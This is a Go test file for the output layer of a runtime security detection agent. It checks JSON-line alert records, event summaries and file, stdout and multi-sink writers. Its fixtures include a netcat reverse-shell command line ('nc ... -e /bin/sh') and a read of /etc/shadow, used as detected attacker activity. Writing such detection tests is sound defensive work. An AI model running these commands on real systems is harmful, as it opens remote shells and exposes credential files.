package output

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"flag"
	"io"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/wardsec/ward/internal/event"
	"github.com/wardsec/ward/internal/finding"
	"github.com/wardsec/ward/internal/runtime/respond"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata")

var testTime = time.Date(2026, 3, 4, 5, 6, 7, 890_000_000, time.UTC)

func testEvent() *event.Event {
	return &event.Event{
		Time: testTime,
		Type: event.Execve,
		Proc: event.Process{
			PID: 4321, PPID: 4300, Name: "bash", ExePath: "/usr/bin/bash",
			Args:      []string{"-c", "nc 10.0.0.9 4444 -e /bin/sh && echo <done>"},
			Ancestors: []event.Ancestor{{PID: 4300, Name: "containerd-shim"}},
		},
		User:      event.User{UID: 0, Name: "root"},
		Container: event.Container{ID: "0123456789ab", FullID: strings.Repeat("0123456789ab", 5) + "cdef", Name: "web", Image: "registry.invalid/web:1.0", Runtime: "containerd"},
		K8s:       event.K8s{Namespace: "shop", Pod: "web-7d9f", PodUID: "5f0c2b9e-1111-2222-3333-444455556666", Labels: map[string]string{"app": "web"}, Workload: "Deployment/web"},
	}
}

func testRecord(checkID string) Record {
	f := finding.Finding{
		CheckID: checkID, Domain: "runtime", Severity: finding.SeverityCritical,
		Title: "Netcat remote code execution in container", Message: "Netcat runs inside container that allows remote code execution",
		Target: "registry.invalid/web:1.0", Resource: finding.Resource{Kind: "Pod", Namespace: "shop", Name: "web-7d9f"},
		Location: finding.Location{Object: "pod/shop/web-7d9f/web"},
	}
	f.SetFingerprint()
	return NewRecord(f, testEvent(), []respond.AuditRecord{
		{Time: testTime.Add(time.Millisecond), Action: respond.Kill, CheckID: checkID, Target: "pid 4321 (bash)", OK: true, Detail: "SIGKILL sent"},
		{Time: testTime.Add(2 * time.Millisecond), Action: respond.Isolate, CheckID: checkID, Target: "pod shop/web-7d9f", Error: "refused: no Kubernetes client configured (the agent runs without cluster access)"},
	})
}

func checkGolden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("read golden (run go test ./internal/runtime/output -update): %v", err)
	}
	if diff := cmp.Diff(string(want), string(got)); diff != "" {
		t.Errorf("%s (-want +got):\n%s", name, diff)
	}
}

// TestRecordJSON pins the documented record shape.
func TestRecordJSON(t *testing.T) {
	b, err := encode(testRecord("WARD-RT-0003"))
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Count(b, []byte("\n")) != 1 || b[len(b)-1] != '\n' {
		t.Fatalf("record is not one JSON line: %q", b)
	}
	var pretty bytes.Buffer
	if err := json.Indent(&pretty, b, "", "  "); err != nil {
		t.Fatal(err)
	}
	checkGolden(t, "record.json", pretty.Bytes())

	// The facts a consumer relies on, independent of the golden file.
	var m struct {
		Finding struct {
			CheckID  string `json:"checkID"`
			Severity string `json:"severity"`
		} `json:"finding"`
		Event struct {
			Type    string `json:"type"`
			Time    string `json:"time"`
			Process struct {
				PID     int    `json:"pid"`
				Cmdline string `json:"cmdline"`
				User    struct {
					UID  *int   `json:"uid"`
					Name string `json:"name"`
				} `json:"user"`
			} `json:"process"`
			Container struct{ ID, Image string }      `json:"container"`
			K8s       struct{ Namespace, Pod string } `json:"k8s"`
		} `json:"event"`
		Actions []struct {
			Action string `json:"action"`
			OK     bool   `json:"ok"`
		} `json:"actions"`
	}
	if err := json.Unmarshal(b, &m); err != nil {
		t.Fatal(err)
	}
	if m.Finding.CheckID != "WARD-RT-0003" || m.Finding.Severity != "CRITICAL" {
		t.Errorf("finding = %+v", m.Finding)
	}
	if m.Event.Type != "execve" || m.Event.Time != "2026-03-04T05:06:07.89Z" || m.Event.Process.PID != 4321 {
		t.Errorf("event = %+v", m.Event)
	}
	if want := "bash -c nc 10.0.0.9 4444 -e /bin/sh && echo <done>"; m.Event.Process.Cmdline != want {
		t.Errorf("cmdline = %q, want %q (HTML characters unescaped)", m.Event.Process.Cmdline, want)
	}
	if m.Event.Process.User.UID == nil || *m.Event.Process.User.UID != 0 || m.Event.Process.User.Name != "root" {
		t.Errorf("user = %+v, want uid 0 present and name root", m.Event.Process.User)
	}
	if m.Event.Container.ID != "0123456789ab" || m.Event.K8s.Namespace != "shop" || m.Event.K8s.Pod != "web-7d9f" {
		t.Errorf("container/k8s = %+v %+v", m.Event.Container, m.Event.K8s)
	}
	if len(m.Actions) != 2 || m.Actions[0].Action != "kill" || !m.Actions[0].OK || m.Actions[1].OK {
		t.Errorf("actions = %+v", m.Actions)
	}
}

func TestSummarize(t *testing.T) {
	tests := []struct {
		name string
		e    *event.Event
		want *EventSummary
	}{
		{name: "nil_event", e: nil, want: nil},
		{
			name: "host_process",
			e:    &event.Event{Time: testTime, Type: event.Openat, Proc: event.Process{PID: 77, PPID: 70, Name: "cat", ExePath: "/usr/bin/cat", Args: []string{"/etc/shadow"}, Ancestors: []event.Ancestor{{PID: 70, Name: "sh"}, {PID: 1, Name: "systemd"}}}, User: event.User{UID: 1000, Name: "alice"}},
			want: &EventSummary{Type: event.Openat, Time: testTime, Process: ProcessSummary{PID: 77, PPID: 70, Name: "cat", Parent: "sh", ExePath: "/usr/bin/cat", Cmdline: "cat /etc/shadow", User: UserSummary{UID: 1000, Name: "alice"}}},
		},
		{
			name: "container_without_pod",
			e:    &event.Event{Type: event.Connect, Proc: event.Process{PID: 9, Name: "curl"}, Container: event.Container{ID: "abcdefabcdef", Name: "c1", Image: "alpine:3", Runtime: "docker", Privileged: true}},
			want: &EventSummary{Type: event.Connect, Process: ProcessSummary{PID: 9, Name: "curl", Cmdline: "curl"}, Container: &ContainerSummary{ID: "abcdefabcdef", Name: "c1", Image: "alpine:3", Runtime: "docker", Privileged: true}},
		},
		{
			name: "pod",
			e:    &event.Event{Type: event.Execve, Proc: event.Process{PID: 5, Name: "sh"}, Container: event.Container{ID: "abcdefabcdef"}, K8s: event.K8s{Namespace: "shop", Pod: "web", PodUID: "u1", Labels: map[string]string{"app": "web"}, Workload: "Deployment/web"}},
			want: &EventSummary{Type: event.Execve, Process: ProcessSummary{PID: 5, Name: "sh", Cmdline: "sh"}, Container: &ContainerSummary{ID: "abcdefabcdef"}, K8s: &K8sSummary{Namespace: "shop", Pod: "web", PodUID: "u1", Labels: map[string]string{"app": "web"}, Workload: "Deployment/web"}},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if diff := cmp.Diff(tt.want, Summarize(tt.e)); diff != "" {
				t.Errorf("summary (-want +got):\n%s", diff)
			}
		})
	}
}

// readLines decodes JSON-lines records.
func readLines(t *testing.T, r io.Reader) []Record {
	t.Helper()
	var out []Record
	sc := bufio.NewScanner(r)
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		var rec Record
		if err := json.Unmarshal(sc.Bytes(), &rec); err != nil {
			t.Fatalf("line %q: %v", sc.Text(), err)
		}
		out = append(out, rec)
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	return out
}

func TestStdoutRoundTrip(t *testing.T) {
	var buf bytes.Buffer
	s := Stdout(&buf)
	want := []Record{testRecord("WARD-RT-0001"), testRecord("WARD-RT-0002"), {Finding: finding.Finding{CheckID: "Read sensitive file", Severity: finding.SeverityHigh}}}
	for _, r := range want {
		if err := s.Write(t.Context(), r); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(want, readLines(t, &buf)); diff != "" {
		t.Errorf("records (-want +got):\n%s", diff)
	}
	if err := s.Write(t.Context(), want[0]); !errors.Is(err, ErrClosed) {
		t.Errorf("Write after Close = %v, want ErrClosed", err)
	}
	if err := s.Close(); err != nil {
		t.Errorf("second Close = %v, want nil", err)
	}
}

func TestFileRoundTrip(t *testing.T) {
	path := filepath.Join(t.TempDir(), "alerts.jsonl")
	var want []Record
	// Two opens: the second appends.
	for round := range 2 {
		s, err := File(path)
		if err != nil {
			t.Fatal(err)
		}
		// Concurrent writers produce whole lines.
		var wg sync.WaitGroup
		for i := range 8 {
			r := testRecord("WARD-RT-00" + string(rune('1'+round)) + string(rune('0'+i)))
			want = append(want, r)
			wg.Go(func() {
				if err := s.Write(t.Context(), r); err != nil {
					t.Error(err)
				}
			})
		}
		wg.Wait()
		if err := s.Close(); err != nil {
			t.Fatal(err)
		}
	}
	st, err := os.Stat(path)
	if err != nil {
		t.Fatal(err)
	}
	if st.Mode().Perm() != 0o600 {
		t.Errorf("alert file mode %v, want 0600", st.Mode().Perm())
	}
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	got := readLines(t, f)
	byID := func(rs []Record) map[string]Record {
		m := map[string]Record{}
		for _, r := range rs {
			m[r.Finding.CheckID] = r
		}
		return m
	}
	if len(got) != len(want) {
		t.Fatalf("file has %d records, want %d", len(got), len(want))
	}
	if diff := cmp.Diff(byID(want), byID(got)); diff != "" {
		t.Errorf("records (-want +got):\n%s", diff)
	}
}

func TestFileErrors(t *testing.T) {
	if _, err := File(filepath.Join(t.TempDir(), "missing-dir", "alerts.jsonl")); err == nil {
		t.Error("File in a missing directory succeeded")
	}
}

// failSink fails every call and counts them.
type failSink struct{ writes, closes int }

func (f *failSink) Write(context.Context, Record) error { f.writes++; return errors.New("sink down") }
func (f *failSink) Close() error                        { f.closes++; return errors.New("close failed") }

func TestMulti(t *testing.T) {
	var a, b bytes.Buffer
	bad := &failSink{}
	m := Multi(Stdout(&a), bad, Stdout(&b))
	r := testRecord("WARD-RT-0005")
	err := m.Write(t.Context(), r)
	if err == nil || !strings.Contains(err.Error(), "sink down") {
		t.Errorf("Write error = %v, want the failing sink's error", err)
	}
	if err := m.Close(); err == nil || !strings.Contains(err.Error(), "close failed") {
		t.Errorf("Close error = %v, want the failing sink's error", err)
	}
	for name, buf := range map[string]*bytes.Buffer{"first": &a, "last": &b} {
		if diff := cmp.Diff([]Record{r}, readLines(t, buf)); diff != "" {
			t.Errorf("%s sink (-want +got):\n%s", name, diff)
		}
	}
	if bad.writes != 1 || bad.closes != 1 {
		t.Errorf("failing sink saw %d writes, %d closes; want 1, 1", bad.writes, bad.closes)
	}
}
